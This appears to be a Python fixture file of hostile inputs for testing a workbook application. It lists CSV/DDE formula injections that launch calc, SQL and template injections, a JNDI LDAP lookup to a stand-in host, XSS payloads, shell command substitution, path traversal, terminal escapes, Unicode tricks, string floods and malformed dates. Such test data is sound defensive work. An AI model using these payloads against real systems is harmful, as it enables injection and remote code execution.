"""Values that harm: names, texts, days and numbers."""

FORMULAS = (
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    '=HYPERLINK("http://192.0.2.1","x")',
    '=DDE("cmd";"/C calc";"!A0")',
)
INJECTIONS = (
    "Robert'); DROP TABLE workbook_person;--",
    "' OR '1'='1",
    "%s%s%s%n%x",
    "{0.__class__.__init__.__globals__}",
    "{{7*7}}",
    "${jndi:ldap://192.0.2.1/a}",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "../../../../etc/passwd",
    "C:\\Windows\\System32",
    "%00%0d%0aSet-Cookie: a=b",
    "$(touch /tmp/hostile)",
    "`touch /tmp/hostile`",
)
ESCAPES = (
    "\x1b[2J\x1b[1;1HGone",
    "\x1b]0;title\x07Name",
    "\x1b]8;;http://192.0.2.1\x1b\\Link\x1b]8;;\x1b\\",
    "\x9b31mRed",
    "Bell\x07Bell\x08\x08",
    "\x7fDel\x00Nul",
)
UNICODE = (
    "Bidi \u202egnirts\u202c Name",
    "\u2066Isolated\u2069 \u2067Name",
    "Zero\u200b\u200c\u200d\ufeffWidth Name",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f600",
    "\U00020000\U0002a6d6",
    "Z" + "\u0351\u0323" * 2_000 + "algo Name",
    "\ufdfa" * 50,
    "I\u0307stanbul \u0130\u0131",
    "\ud800 lone",
    "\ue000\ufffe\uffff",
    "\u3164\u115f\u1160",
    "tag\U000e0041\U000e0042\U000e007f",
    "line\u2028separator\u2029paragraph\x85next",
)
LONG = ("L" * 200_000, "Long " * 40_000, "\u00e9" * 100_000, "(" * 50_000, "A. " * 60_000)
DAYS = (
    "9999-99-99",
    "0000-00-00",
    "10000-01-01",
    "-0001-01-01",
    "99999999999999999999",
    "2026-02-30",
    "2026-02-29T25:61:61Z",
    "9999-12-31T23:59:59-23:59",
    "0001-01-01T00:00:00+23:59",
    "1e308",
    "NaN",
    "٢٠٢٦-٠٢-٣٠",
    "²⁰²⁶",
    "31.12.9999",
    "12/31/99999",
    "today",
    "=TODAY()",
    "",
)
NAMES = {
    "formulas": FORMULAS,
    "injections": INJECTIONS,
    "terminal escapes": ESCAPES,
    "unicode": UNICODE,
    "floods": LONG,
}
